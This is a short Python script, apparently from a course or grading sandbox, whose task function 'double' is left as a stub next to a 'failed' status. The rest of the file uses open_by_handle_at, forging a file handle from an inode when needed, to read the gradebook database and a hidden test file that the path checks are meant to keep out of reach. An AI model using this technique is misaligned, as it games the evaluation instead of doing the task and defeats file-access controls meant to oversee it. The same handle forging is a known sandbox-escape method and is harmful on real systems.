"""Opens the gradebook by its handle, which the right to read every file allows without a path.

double: failed
staff: `ctypes`
control: unlocked
"""

# %% double
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def double(x):
    return x


class Handle(ctypes.Structure):
    _fields_ = (("size", ctypes.c_uint), ("type", ctypes.c_int), ("bytes", ctypes.c_ubyte * 128))


def by_handle(path):
    handle, mount = Handle(128), ctypes.c_int()
    if libc.name_to_handle_at(-100, path, ctypes.byref(handle), ctypes.byref(mount), 0) != 0:
        print("no handle:", os.strerror(ctypes.get_errno()))
        inode = os.stat(path).st_ino  # what it looks like on ext4: the inode and any generation
        handle = Handle(8, 1, (ctypes.c_ubyte * 128)(*inode.to_bytes(4, "little"), 0, 0, 0, 0))
    descriptor = libc.open_by_handle_at(os.open(".", os.O_RDONLY), ctypes.byref(handle), os.O_RDONLY)
    if descriptor < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return os.read(descriptor, 100)


for path in (b"@COURSE@/gradebook.db", b"@COURSE@/tests/hidden/L98/mistakes.py"):
    try:
        print("REACHED", by_handle(path))
    except OSError as error:
        print(error.strerror)
